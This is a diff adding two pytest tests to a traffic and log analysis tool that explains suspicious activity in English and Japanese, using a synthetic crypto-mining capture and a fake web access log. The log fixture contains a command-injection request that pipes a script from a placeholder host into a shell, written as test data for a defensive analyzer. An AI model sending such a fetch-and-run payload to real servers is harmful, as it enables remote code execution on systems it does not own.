@@ -3,10 +3,13 @@
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 
 import pytest
 
+from kanaria.lab.mining import Plan, conversation
+from kanaria.lab.scenario import Host, write_pcap
 from tests.app.running import Kanaria
 from tests.app.test_records_of_others import hear
 
@@ -114,3 +117,24 @@ def test_who_sends_a_command_beside_a_mining_message_is_not_said_to_use_nothing(
             assert (nothing in said or story in said, style == "report" and unnamed in said) == (
                 uses_nothing, style == "report" and not uses_nothing,
             )  # fmt: skip
+
+
+def test_a_shape_alone_is_not_said_to_be_as_after_a_break_in(kanaria: Kanaria, tmp_path: Path) -> None:
+    plan = Plan(dialect="cryptonote", seconds=3 * 3600, wrapping="tls")
+    talk = conversation(plan, Host("miner", "192.168.10.53"), Host("pool", "203.0.113.38"), 443)
+    write_pcap([talk], tmp_path / "miner.pcap")
+    english = " ".join(kanaria("analyze", "--lang", "en", "miner.pcap").out.split())
+    assert "Suspicious: traffic" in english and "after a break-in" not in english
+    assert "Attack, or stray? Not stray traffic: the device itself takes part." in english
+    japanese = "".join(kanaria("analyze", "--lang", "ja", "miner.pcap").out.split())
+    assert "侵入された後にみられる" not in japanese and "通信の形だけでは分かりません" in japanese
+
+
+def test_a_heading_in_markdown_ends_as_one(kanaria: Kanaria, tmp_path: Path) -> None:
+    (tmp_path / "access.log").write_text(
+        f'{STRANGER} - - {WHEN} "GET /?cmd=curl+http://203.0.113.9/x.sh|sh HTTP/1.1" 404 9 "-" "-"\n'
+    )
+    said = kanaria("analyze", "--format", "markdown", "access.log").out
+    heads = re.findall(r"^- \*\*(.*?)\*\*(.)", said, re.MULTILINE)
+    assert len(heads) >= 5
+    assert all(after == (" " if head.endswith("?") else ":") for head, after in heads), heads
